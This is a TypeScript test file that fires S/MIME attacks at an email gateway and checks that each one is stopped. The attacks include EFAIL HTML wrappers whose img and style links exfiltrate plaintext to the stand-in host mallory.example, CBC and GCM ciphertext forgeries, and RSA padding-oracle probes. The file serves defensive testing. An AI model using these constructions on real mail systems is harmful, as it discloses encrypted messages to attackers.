/** Attacks 15 to 23 through a running gateway: nothing that was encrypted leaves in the clear, no failure tells how it failed, nothing false is learnt. */
import { constants, createPublicKey, publicEncrypt, randomBytes } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import {
  DerReader,
  decodeBody,
  encryptContent,
  encryptMessage,
  localDecrypter,
  oids,
  scanMessage,
  signMessage,
  verifyMessage,
} from '@chancery/smime';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  encodeElement,
  encodeExplicit,
  encodeInteger,
  encodeOctetString,
  encodeOid,
  encodeSequence,
} from '../../../smime/src/asn1/der.ts';
import { encodeAttribute } from '../../../smime/src/cms/attributes.ts';
import { readContentInfo } from '../../../smime/src/cms/content-info.ts';
import { readEnvelopedData } from '../../../smime/src/cms/enveloped-data.ts';
import { encodeIssuerAndSerial } from '../../../smime/src/cms/identifier.ts';
import { openEverything, openStepByStep, soundSigners } from '../../../smime/test/attacks/naive.ts';
import { attributes, clear, signedData, signerInfo, text } from '../../../smime/test/forge.ts';
import { type Holder, mail, replaced } from '../../../smime/test/office.ts';
import { type Attacked, startAttacked } from '../support/attacked.ts';
import { until } from '../support/next-server.ts';

const secret = 'The password is swordfish.';
let at: Attacked;
let alice: Holder;
let mallory: Holder;
/** Anna as the builders of the engine's tests take her. */
let anna: Holder;
beforeAll(async () => {
  at = await startAttacked();
  [alice, mallory] = await Promise.all([
    at.certify({ email: 'alice@example.org' }, at.root),
    at.certify({ email: 'mallory@example.org' }, at.root),
  ]);
  const { certificate, privateKey } = at.anna;
  anna = { ...alice, certificate, privateKey, key: { certificate, decrypter: localDecrypter(privateKey) } };
});
afterAll(() => at.stop());

const letter = (more: Parameters<typeof mail>[0] = {}) =>
  mail({ from: 'alice@example.org', body: `${secret}\r\n`, ...more });
const objectIn = (message: Uint8Array): Buffer => Buffer.from(decodeBody(message, scanMessage(message)));
const enveloped = (object: Uint8Array, type = 'enveloped-data'): Buffer =>
  mail({
    from: 'alice@example.org',
    headers: ['Content-Transfer-Encoding: base64'],
    contentType: `application/pkcs7-mime; smime-type=${type}; name=smime.p7m`,
    body: `${Buffer.from(object).toString('base64').replace(/.{76}/g, '$&\r\n')}\r\n`,
  });
/** Every text of a message, decoded: what a reader or their program could come to see. */
const shown = (octets: Uint8Array): string => {
  const texts: string[] = [];
  const pending = [scanMessage(octets)];
  for (let one = pending.shift(); one !== undefined; one = pending.shift()) {
    pending.push(...one.parts);
    if (one.parts.length === 0) texts.push(Buffer.from(decodeBody(octets, one)).toString('latin1'));
  }
  return texts.join('\n');
};
const around = (part: string, type = 'mixed') =>
  mail({
    from: 'mallory@example.org',
    contentType: `multipart/${type}; boundary=outer`,
    body: `--outer\r\nContent-Type: text/html\r\n\r\n<img src="http://mallory.example/\r\n--outer\r\n${part}\r\n--outer\r\nContent-Type: text/html\r\n\r\n">\r\n--outer--\r\n`,
  });

describe('attacks on encryption, through the gateway', () => {
  it('the control: what is for Anna is opened', async () => {
    const arrived = await at.arrives(await at.encrypted(letter()));
    expect(arrived.text).toContain(secret);
    expect(arrived.verdictField).toMatch(/^unsigned; encrypted=yes; opened=yes; authenticated=no/);
    expect(arrived.signals).toContain('not-authenticated');
  });

  it('16: a ciphertext among the parts of another message stays shut (EFAIL)', async () => {
    const sealed = (await at.encrypted(letter())).toString('latin1');
    const part = sealed.slice(sealed.indexOf('Content-Type:'));
    for (const type of ['mixed', 'related', 'alternative', 'signed']) {
      const message = around(part, type);
      expect(await openEverything(message, [anna.key])).toMatch(/mallory\.example\/[\s\S]*swordfish/);
      const arrived = await at.arrives(message);
      expect(shown(arrived.octets)).not.toContain('swordfish');
      expect(arrived.verdictField).toContain('opened=no');
    }
    const twice = replaced(
      Buffer.from(sealed, 'latin1'),
      'Content-Type: application',
      'Content-Type: text/html\r\nContent-Type: application',
    );
    const arrived = await at.arrives(twice);
    expect(arrived.verdict).toBe('ambiguous');
    expect(shown(arrived.octets)).not.toContain('swordfish');
  });

  it('17: what may have been altered is shown as text, and loads nothing', async () => {
    const html = `<html><head><style>@import url(http://mallory.example/css)</style></head><body><p>${secret}</p><img src="http://mallory.example/?"><a href="http://mallory.example/a">here</a></body></html>\r\n`;
    const honest = await at.encrypted(letter({ contentType: 'text/html; charset=utf-8', body: html }));
    const gadget = Buffer.from('Content-type: ht');
    const der = objectIn(honest);
    const known = Buffer.from(openStepByStep(der, anna));
    const identifier = Buffer.from('060960864801650304012a', 'hex');
    const iv = der.indexOf(identifier) + identifier.length + 2;
    for (let i = 0; i < 16; i++) der[iv + i] = (der[iv + i] ?? 0) ^ (known[i] ?? 0) ^ (gadget[i] ?? 0);
    const forged = enveloped(der);
    expect(openStepByStep(objectIn(forged), anna).toString('latin1')).toMatch(/^Content-type: ht/);
    for (const message of [honest, forged]) {
      const arrived = await at.arrives(message);
      expect(arrived.verdictField).toMatch(/opened=yes; authenticated=no; shown=text/);
      const root = scanMessage(arrived.octets);
      expect(root.parts.map(({ contentType }) => contentType.type)).toEqual(['text/plain', 'application/octet-stream']);
      expect(shown(arrived.octets)).not.toMatch(/<img|<style|href=|http:\/\/mallory/);
      const [words, original] = root.parts.map((part) => Buffer.from(decodeBody(arrived.octets, part)));
      expect(original).toEqual(Buffer.from(message));
      if (message === honest) expect(words?.toString()).toContain(secret);
      else expect(words?.toString()).toContain('Only its text is shown');
    }
    // With a signature within nothing is held back.
    const signed = await signMessage({
      signers: [alice],
      message: letter({ contentType: 'text/html; charset=utf-8', body: html }),
      form: 'clear',
      signingTime: new Date(),
    });
    const vouched = await at.arrives(await at.encrypted(signed));
    expect(vouched.verdictField).toMatch(/^valid; encrypted=yes; opened=yes; authenticated=yes/);
    expect(vouched.text).toContain('<img');
  });

  it('18: GCM relabelled as CBC, and short tags', async () => {
    const content = Buffer.alloc(64, 'secret');
    const gcm = await encryptContent({ content, recipients: [anna.certificate], cipher: 'aes-256-gcm' });
    const info = new DerReader(gcm).enter();
    info.oid();
    const data = info.enter(0xa0).enter();
    data.skip();
    const recipients = data.element();
    const encrypted = data.enter();
    encrypted.skip();
    const algorithm = encrypted.enter();
    algorithm.skip();
    const nonce = algorithm.enter().octetString();
    const ciphertext = encrypted.content();
    const mac = data.octetString();
    const xored = (a: Buffer, b: Uint8Array): Buffer => Buffer.from(a.map((octet, i) => octet ^ (b[i] ?? 0)));
    const wanted = Buffer.alloc(16, 4);
    wanted.write('Pay Mallory.', 'latin1');
    const counter = Buffer.concat([nonce, Buffer.from([0, 0, 0, 2])]);
    const keystream = xored(Buffer.alloc(16, 'secret'), ciphertext);
    const cbc = encodeSequence(
      encodeOid(oids.data),
      encodeSequence(encodeOid(oids.aes256Cbc), encodeOctetString(xored(wanted, counter))),
      encodeElement(0x80, keystream),
    );
    const relabelled = encodeSequence(
      encodeOid(oids.envelopedData),
      encodeExplicit(0, encodeSequence(encodeInteger(0), recipients, cbc)),
    );
    expect(openStepByStep(relabelled, anna).toString()).toBe('Pay Mallory.');
    const short = (length: number) =>
      encodeSequence(
        encodeOid(oids.authEnvelopedData),
        encodeExplicit(
          0,
          encodeSequence(
            encodeInteger(0),
            recipients,
            encodeSequence(
              encodeOid(oids.data),
              encodeSequence(
                encodeOid(oids.aes256Gcm),
                encodeSequence(encodeOctetString(nonce), encodeInteger(length)),
              ),
              encodeElement(0x80, ciphertext),
            ),
            encodeOctetString(mac.subarray(0, length)),
          ),
        ),
      );
    for (const object of [relabelled, short(0), short(4), short(11)]) {
      const arrived = await at.arrives(enveloped(object, 'authEnveloped-data'));
      expect(arrived.verdictField).not.toContain('authenticated=yes');
      expect(arrived.verdict).not.toBe('valid');
    }
  });

  it('19: every failure is one reply, one class in the log and one cost', { timeout: 30_000 }, async () => {
    const der = Buffer.from(
      await encryptContent({ content: Buffer.alloc(40, 'secret'), recipients: [anna.certificate] }),
    );
    const entry = readEnvelopedData(readContentInfo(der).content).recipients[0];
    const key = entry !== undefined && 'encryptedKey' in entry ? Buffer.from(entry.encryptedKey) : Buffer.alloc(0);
    expect(key).toHaveLength(256);
    const spki = createPublicKey(anna.privateKey);
    const withBlock = (prefix: number[], tail: Buffer): Buffer => {
      const block = Buffer.alloc(256, 0xff);
      block.set(prefix, 0);
      block[255 - tail.length] = 0;
      block.set(tail, 256 - tail.length);
      const forged = Buffer.from(der);
      forged.set(publicEncrypt({ key: spki, padding: constants.RSA_NO_PADDING }, block), der.indexOf(key));
      return forged;
    };
    const blocked = Buffer.from(der);
    blocked[blocked.length - 17] = (blocked[blocked.length - 17] ?? 0) ^ 0x80;
    const tagged = Buffer.from(
      await encryptContent({ content: Buffer.alloc(40), recipients: [anna.certificate], cipher: 'aes-256-gcm' }),
    );
    tagged[tagged.length - 1] = (tagged[tagged.length - 1] ?? 0) ^ 1;
    const failures = {
      'bad padding': withBlock([0, 1], randomBytes(32)),
      'bad key': withBlock([0, 2], randomBytes(16)),
      'bad block': blocked,
      'bad tag': tagged,
    };
    for (const [name, object] of Object.entries(failures)) expect(() => openStepByStep(object, anna)).toThrow(name);
    const { events, authority } = at.office;
    const told = new Set<string>();
    const costs = new Map<string, number[]>();
    for (let round = 0; round < 4; round++) {
      for (const [name, object] of Object.entries(failures)) {
        const [seen, asked] = [events.length, authority.calls.get('gatewayKeys')];
        at.office.inside.delivered.length = 0;
        const message = replaced(enveloped(object), '<1@', `<${name.replace(' ', '')}${round}@`);
        const began = process.cpuUsage();
        const reply = await at.office.send('inbound', {
          sender: 'eve@x.example',
          recipients: ['anna@example.com'],
          message,
        });
        const { user, system } = process.cpuUsage(began);
        costs.set(name, [...(costs.get(name) ?? []), (user + system) / 1000]);
        await until(() => at.office.inside.delivered.length === 1);
        const arrived = at.office.inside.delivered[0]?.message.toString('latin1') ?? '';
        const verdict = /^X-Chancery-Verdict: .*(?:\r\n .*)*/m.exec(arrived)?.[0];
        const said = reply === 'lost' ? reply : reply.reply.replace(/[0-9a-f-]{36}/, 'ID');
        const asks = (authority.calls.get('gatewayKeys') ?? 0) - (asked ?? 0);
        const logged = events.slice(seen).filter(({ level }) => level !== 'info');
        told.add(JSON.stringify([said, verdict, logged, round === 0 ? null : asks]));
      }
    }
    // Whether the keys were asked for anew hangs on the time alone, and so does not tell one failure from another.
    const classes = new Set([...told].map((one) => JSON.stringify(JSON.parse(one).slice(0, 3))));
    expect([...classes]).toHaveLength(1);
    expect([...classes][0]).toContain('inbound.not-decrypted');
    // Milliseconds of this process, the least of each: what else the machine does is no part of it.
    const least = [...costs.values()].map((times) => Math.min(...times));
    expect(Math.max(...least) - Math.min(...least)).toBeLessThan(25);
  });

  it('20: a key that is not named is not used', async () => {
    await at.office.authority.addPerson({ address: 'ben@example.com', signingKey: 'device', encryption: 'rsa' });
    const ben = at.office.authority.encryptionKeyOf('ben@example.com').certificate;
    const forBen = Buffer.from(await encryptMessage({ message: letter(), recipients: [ben] }));
    // Anna's name on what only Ben can open.
    const swapped = Buffer.from(objectIn(forBen));
    const named = encodeIssuerAndSerial({ ...anna, certificate: ben }.certificate);
    const place = swapped.indexOf(named);
    const hers = encodeIssuerAndSerial(anna.certificate);
    expect(place).toBeGreaterThan(0);
    expect(hers.length).toBe(named.length);
    swapped.set(hers, place);
    for (const message of [forBen, enveloped(swapped)]) {
      const arrived = await at.arrives(message);
      expect(arrived.verdictField).toContain('opened=no');
      expect(shown(arrived.octets)).not.toContain('swordfish');
    }
  });

  it('21: somebody else’s ciphertext is opened for no answer, and for no reader who was not meant', async () => {
    const sealed = (await at.encrypted(letter())).toString('latin1');
    const part = sealed.slice(sealed.indexOf('Content-Type:'));
    const forwarded = `Content-Type: message/rfc822\r\n\r\n${sealed}`;
    for (const one of [part, forwarded]) {
      expect(await openEverything(around(one), [anna.key])).toContain('swordfish');
      const within = await at.arrives(await at.encrypted(around(one)));
      expect(shown(within.octets)).not.toContain('swordfish');
      at.office.outside.delivered.length = 0;
      const answer = replaced(around(one), 'From: mallory@example.org', 'From: anna@example.com');
      const sent = { sender: 'anna@example.com', recipients: ['mallory@example.org'], message: answer };
      expect(await at.office.send('outbound', sent)).toMatchObject({ code: 250 });
      await until(() => at.office.outside.delivered.length === 1);
      expect(shown(at.office.outside.delivered[0]?.message ?? Buffer.alloc(0))).not.toContain('swordfish');
    }
    // The whole of it sent on as one's own goes out as it is.
    at.office.outside.delivered.length = 0;
    const whole = replaced(Buffer.from(sealed, 'latin1'), 'From: alice@example.org', 'From: anna@example.com');
    await at.office.send('outbound', {
      sender: 'anna@example.com',
      recipients: ['mallory@example.org'],
      message: whole,
    });
    await until(() => at.office.outside.delivered.length === 1);
    expect(shown(at.office.outside.delivered[0]?.message ?? Buffer.alloc(0))).not.toContain('swordfish');
  });

  it('22: a message teaches nothing that it has not proved', async () => {
    const before = await at.harvested();
    const carol = await at.certify({ email: 'carol@example.org' }, at.root);
    const preferring = (holder: Holder): Buffer => {
      const value = encodeIssuerAndSerial(holder.certificate);
      value[0] = 0xa0;
      return encodeAttribute(oids.encryptionKeyPreference, value);
    };
    const only = (oid: string) =>
      encodeAttribute(oids.smimeCapabilities, encodeSequence(encodeSequence(encodeOid(oid))));
    // Carol's certificate comes along with Mallory's signature, by itself and as the one that Mallory prefers.
    const along = signedData([await signerInfo(mallory, attributes(text))], [mallory, carol]);
    const preferred = signedData(
      [await signerInfo(mallory, [...attributes(text), preferring(carol)])],
      [mallory, carol],
    );
    for (const cms of [along, preferred]) {
      await at.arrives(clear(text, cms, { from: 'mallory@example.org' }), { sender: 'mallory@example.org' });
      await at.arrives(clear(text, cms, { from: 'carol@example.org' }), { sender: 'carol@example.org' });
    }
    expect((await at.harvested()).filter((address) => !before.includes(address))).toEqual(
      (await at.harvested()).filter((address) => address === 'mallory@example.org'),
    );
    // An old message that comes again does not take back what a newer one has said.
    const dora = await at.certify({ email: 'dora@example.org', kind: 'rsa' }, at.root);
    const time = (hours: number) =>
      encodeAttribute(
        oids.signingTime,
        encodeElement(
          0x17,
          Buffer.from(
            new Date(Date.now() + hours * 3_600_000)
              .toISOString()
              .replace(/[-:T]|\.\d+/g, '')
              .slice(2),
          ),
        ),
      );
    const says = async (hours: number, capability: Buffer, content = text) =>
      clear(content, signedData([await signerInfo(dora, [...attributes(text), time(hours), capability])], [dora]), {
        from: 'dora@example.org',
      });
    const capabilities = async () => {
      const folder = path.join(at.office.folder, 'harvested');
      for (const name of await readdir(folder)) {
        const kept = JSON.parse(await readFile(path.join(folder, name), 'utf8'));
        if (kept.address === 'dora@example.org')
          return kept.certificates[0].capabilities.map((one: { oid: string }) => one.oid);
      }
      return undefined;
    };
    const sender = 'dora@example.org';
    expect((await at.arrives(await says(-2, only(oids.aes256Gcm)), { sender })).verdict).toBe('valid');
    expect(await capabilities()).toEqual([oids.aes256Gcm]);
    expect((await at.arrives(await says(-9, only(oids.desEde3Cbc)), { sender })).verdict).toBe('valid');
    expect(await capabilities()).toEqual([oids.aes256Gcm]);
    const broken = replaced(await says(-1, only(oids.desEde3Cbc)), 'Pay 10', 'Pay 99');
    expect((await at.arrives(broken, { sender })).verdict).toBe('invalid');
    expect(await capabilities()).toEqual([oids.aes256Gcm]);
  });

  it('22: another certificate of a correspondent is told, and waits where another authority made it', async () => {
    const sender = 'erin@example.org';
    const first = await at.certify({ email: sender }, at.root);
    const again = await at.certify({ email: sender }, at.root);
    const below = await at.certify({ ca: true, name: 'Another CA' }, at.root);
    const elsewhere = await at.certify({ email: sender }, below);
    const send = async (by: Holder, chain: readonly Holder[] = []) =>
      at.arrives(clear(text, signedData([await signerInfo(by, attributes(text))], [by, ...chain]), { from: sender }), {
        sender,
      });
    expect((await send(first)).signals).toEqual([]);
    const renewed = await send(again);
    expect(renewed).toMatchObject({ verdict: 'valid', signals: ['certificate-changed'] });
    const foreign = await send(elsewhere, [below]);
    expect(foreign).toMatchObject({ verdict: 'valid', signals: ['certificate-changed'] });
    at.office.outside.delivered.length = 0;
    const answer = letter({ from: 'anna@example.com' });
    await at.office.send('outbound', { sender: 'anna@example.com', recipients: [sender], message: answer });
    await until(() => at.office.outside.delivered.length === 1);
    const sent = objectIn(at.office.outside.delivered[0]?.message ?? Buffer.alloc(0));
    expect(sent.includes(encodeIssuerAndSerial(again.certificate))).toBe(true);
    expect(sent.includes(encodeIssuerAndSerial(elsewhere.certificate))).toBe(false);
  });

  it('23: a signed message that was passed on as if it were meant for its reader', async () => {
    const message = letter({ headers: [] });
    const signed = await signMessage({
      signers: [alice],
      message,
      form: 'opaque',
      signingTime: new Date(),
      headerProtection: 'baseline',
    });
    const passedOn = await at.encrypted(signed);
    const opened = Buffer.from(openStepByStep(objectIn(passedOn), anna));
    const inner = Buffer.concat([Buffer.from('From: alice@example.org\r\nMIME-Version: 1.0\r\n'), opened]);
    const report = await verifyMessage({ message: inner, anchors: [at.root.certificate] });
    // The signature, its signer and the From are all right.
    expect(report.signers.every(({ identity, path: { valid } }) => identity === 'match' && valid)).toBe(true);
    expect(await soundSigners(inner, at.root.certificate)).toEqual(['alice@example.org']);
    const arrived = await at.arrives(passedOn);
    expect(arrived.verdict).not.toBe('valid');
    expect(arrived.smime).not.toBe('pass');
  });
});
